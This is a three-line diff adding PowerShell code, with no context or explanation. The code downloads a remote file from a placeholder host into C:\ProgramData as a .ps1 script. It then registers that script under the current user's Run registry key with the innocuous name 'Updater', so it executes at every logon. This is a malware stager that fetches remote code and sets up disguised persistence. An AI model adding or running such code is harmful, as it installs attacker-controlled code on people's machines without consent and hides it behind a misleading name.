@@ -1,0 +1,3 @@
+$script = 'C:\ProgramData\stage286.ps1'
+(New-Object Net.WebClient).DownloadFile('https://login-portal.invalid/module.txt', $script)
+New-ItemProperty -Path 'HKCU:\Software\Microsoft\Windows\CurrentVersion\Run' -Name 'Updater' -Value ('powershell -File ' + $script)
